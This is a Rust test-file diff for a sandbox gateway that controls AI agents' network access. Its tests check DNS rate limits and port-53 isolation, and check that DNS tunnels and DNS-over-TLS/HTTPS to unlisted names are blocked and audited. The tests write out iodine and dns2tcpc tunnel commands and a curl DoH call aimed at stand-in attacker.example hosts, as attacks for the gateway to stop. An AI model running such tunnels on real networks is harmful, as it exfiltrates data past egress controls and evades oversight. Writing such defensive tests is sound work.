@@ -6,7 +6,7 @@ mod shares;
 
 use std::{
     io::{Read as _, Write as _},
-    net::{IpAddr, SocketAddr, UdpSocket},
+    net::{IpAddr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket},
     process::{Command, Stdio},
     time::{Duration, Instant},
 };
@@ -16,18 +16,22 @@ use hickory_proto::{
     rr::{RecordType, rdata::opt::EdnsOption},
 };
 use lab::{
-    client::{agent, succeed},
+    client::{Tls, agent, succeed},
     dns::Answer,
     gateway,
     net::{AGENT, AGENT2, ATTACKER, CDN, GATEWAY, GATEWAY_V4, INTERNET, OPENAI, OTHER, PYPI},
     sandboxed, wait,
 };
+use socket2::{Domain, Socket, Type};
 
 use self::client::{
     addresses, anywhere, ask, ask_tcp, ask_udp, code, framed, query, rand, read, resolvers, socket,
     unframed,
 };
 use crate::world::{TICKET, World, get};
+
+/// How long glibc and musl wait for an answer.
+const CLIENTS_WAIT: Duration = Duration::from_secs(5);
 
 /// The usual policy, with so many queries a second for each agent.
 fn config(rate: u32) -> String {
@@ -133,13 +137,15 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
     sandboxed(|| {
         let world = World::with(&config(10_000));
         let wan = world.lab.capture(INTERNET);
-        let server = ATTACKER.v4().to_string();
+        // Each with a zone of its own, by which the audit tells who tried.
+        let [v4, v6] = [ATTACKER.v4().to_string(), ATTACKER.v6().to_string()];
         let lines = [
-            format!("iodine -f -r -P secret {server} t.attacker.example"),
-            format!("iodine -f -r -P secret -T NULL -O raw {server} t.attacker.example"),
-            "iodine -f -r -P secret -T TXT 2001:db8:f::53 t.attacker.example".to_owned(),
-            format!("dns2tcpc -c -z t.attacker.example -r ssh -l 2222 {server}"),
-            format!("dns2tcpc -c -k key -z t.attacker.example {server}"),
+            format!("iodine -f -r -P secret {v4} i4.attacker.example"),
+            format!("iodine -f -r -P secret -T NULL -O raw {v4} raw.attacker.example"),
+            format!("iodine -f -r -P secret -T TXT {v6} i6.attacker.example"),
+            // It knows of no IPv6.
+            format!("dns2tcpc -c -z d4.attacker.example {v4}"),
+            format!("dns2tcpc -c -T KEY -k key -z key.attacker.example {v4}"),
         ];
         let mut running = Vec::new();
         for line in lines {
@@ -158,14 +164,52 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
         }
         assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
         assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
+        // The capture sees what there is to see.
+        ask(anywhere(), OPENAI.name, RecordType::A);
+        assert!(wan.holds("openai"));
         // They did try: of the resolver that each was given.
-        for (program, server) in [("dns2tcpc", server.as_str()), ("iodine", "2001:db8:f::53")] {
+        let tried = [("i4", &v4), ("raw", &v4), ("i6", &v6), ("d4", &v4), ("key", &v4)];
+        for (zone, server) in tried {
+            let zone = format!("{zone}.attacker.example");
             let tried = world.gateway.audit.wait_for(|record| {
                 let name = record["name"].as_str().unwrap_or_default();
-                record["server"] == server && name.contains("attacker.example")
+                record["server"] == *server && name.trim_end_matches('.').ends_with(&zone)
             });
-            assert_eq!(tried["record"], "dns", "{program}: {tried}");
+            assert_eq!(tried["record"], "dns", "{zone}: {tried}");
         }
+    });
+}
+
+/// DNS over TLS and over HTTPS are TLS to a name that is not listed, at a port that is (443) or is
+/// not (853).
+#[test]
+fn dns_inside_tls_to_a_name_that_is_not_listed_leaves_no_packet_on_the_wan() {
+    sandboxed(|| {
+        let world = World::usual();
+        let wan = world.lab.capture(INTERNET);
+        let hello = world.hello("dns.attacker.example");
+        for to in [443, 853].map(|port| [ATTACKER.port(port), ATTACKER.port6(port)]).concat() {
+            Tls::open(AGENT, to, &hello).map(drop).expect_err("no TLS with the attacker");
+        }
+        for to in [ATTACKER.port(443), ATTACKER.port6(443)] {
+            let mut curl = agent(&world.lab, AGENT, "curl");
+            let address = to.to_string().replace(":443", "");
+            let resolved = format!("dns.attacker.example:443:{address}");
+            curl.args(["-sS", "--max-time", "5", "--resolve", &resolved, "--doh-url"]);
+            curl.args(["https://dns.attacker.example/dns-query", "https://other.example/"]);
+            assert!(!curl.status().expect("curl runs").success(), "{to}");
+            wait::expect("a refusal for each client", || {
+                let records = world.connections().into_iter();
+                let denied = records.filter(|it| it["reason"] == "sni_denied");
+                denied.filter(|it| it["dialled"] == to.to_string()).count() >= 2
+            });
+        }
+        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
+        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
+        world.origin.log().assert_untouched();
+        // The capture sees what there is to see.
+        ask(anywhere(), OPENAI.name, RecordType::A);
+        assert!(wan.holds("openai"));
     });
 }
 
@@ -239,6 +283,24 @@ fn what_does_not_resolve_is_told_in_time() {
         }
         let unknown = ask(anywhere(), "unknown.cdn.example", RecordType::A);
         assert_eq!(code(&unknown), ResponseCode::NXDomain);
+    });
+}
+
+#[test]
+fn an_answer_that_is_too_long_for_a_datagram_is_asked_for_in_a_stream() {
+    sandboxed(|| {
+        let world = World::usual();
+        let v4 = |last| IpAddr::from([198, 51, 100, last]);
+        let all: Vec<_> = (100..115).map(v4).chain([IpAddr::from(PYPI.v6())]).collect();
+        world.dns.script(PYPI.name, Answer::Truncated(all.clone()));
+        let told = addresses(&ask(anywhere(), PYPI.name, RecordType::A));
+        assert_eq!(told.len(), 15, "{told:?}");
+        assert!(told.iter().all(|address| all.contains(address)), "{told:?}");
+        assert_eq!(world.dns.asked().len(), 4, "each kind twice: {:?}", world.dns.asked());
+        world.dns.script(PYPI.name, Answer::Truncated(vec![PYPI.v4().into(), PYPI.v6().into()]));
+        let mut spliced = world.h1(PYPI).expect("a flow resolves it too");
+        let head = "GET /a HTTP/1.1\r\nHost: pypi.example\r\n\r\n";
+        assert_eq!(spliced.ask(head).expect("an answer").status, 200);
     });
 }
 
@@ -342,9 +404,12 @@ fn an_agent_that_asks_too_much_is_slowed_down_alone() {
         std::thread::scope(|scope| {
             for flood in &floods[..2] {
                 scope.spawn(|| {
+                    // What is measured is what it takes from the gateway, not from the machine.
+                    rustix::process::setpriority_process(None, 19).expect("a thread may be nice");
                     while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                         // Its own queue may be full, which is the flood at its most.
-                        let _ = flood.send(&message);
+                        (0..100).for_each(|_| drop(flood.send(&message)));
+                        std::thread::sleep(Duration::from_millis(5));
                     }
                 });
             }
@@ -359,7 +424,7 @@ fn an_agent_that_asks_too_much_is_slowed_down_alone() {
             stop.store(true, std::sync::atomic::Ordering::Relaxed);
         });
         assert_eq!(served, 60, "the other agent is served; slowest {slowest:?}");
-        assert!(slowest < Duration::from_secs(2), "{slowest:?}");
+        assert!(slowest < CLIENTS_WAIT, "{slowest:?}");
         let record = world
             .gateway
             .audit
@@ -439,11 +504,34 @@ fn a_reload_changes_which_names_there_are() {
 fn no_other_program_is_reached_on_port_53() {
     sandboxed(|| {
         let _world = World::usual();
-        // A resolver of the gateway's own, on loopback, is not in the way and not in reach.
-        let own = GATEWAY.enter(|| UdpSocket::bind("127.0.0.1:53"));
-        drop(own);
+        // A resolver of the gateway's own, on loopback or on the WAN, is not in the way and not in
+        // reach, whatever of its addresses an agent asks.
+        let own = ["lo", "wan0"].map(|interface| GATEWAY.enter(|| bound_to(interface)));
+        for server in resolvers() {
+            for ask in [ask_udp, ask_tcp] {
+                let answer = ask(AGENT, server, &query(OPENAI.name, RecordType::A));
+                assert_eq!(addresses(&answer.expect("an answer")).len(), 1, "{server}");
+            }
+        }
+        for (udp, tcp) in &own {
+            udp.recv(&mut [0; 512]).expect_err("a question for another program");
+            tcp.accept().map(drop).expect_err("a connection to another program");
+        }
         AGENT.connect(SocketAddr::from((GATEWAY_V4, 5353))).expect_err("not DNS");
-        let answer = ask(SocketAddr::from((GATEWAY_V4, 53)), OPENAI.name, RecordType::A);
-        assert_eq!(addresses(&answer).len(), 1);
     });
+}
+
+/// Another program's sockets on port 53 of every address, bound to an interface as systemd-resolved
+/// binds its own.
+fn bound_to(interface: &str) -> (UdpSocket, TcpListener) {
+    let any = SocketAddr::from((Ipv6Addr::UNSPECIFIED, 53)).into();
+    let [udp, tcp] = [Type::DGRAM, Type::STREAM].map(|kind| {
+        let socket = Socket::new(Domain::IPV6, kind, None).expect("a socket");
+        socket.bind_device(Some(interface.as_bytes())).expect("an interface");
+        socket.bind(&any).expect("port 53");
+        socket.set_nonblocking(true).expect("a socket");
+        socket
+    });
+    tcp.listen(8).expect("a listener");
+    (udp.into(), tcp.into())
 }
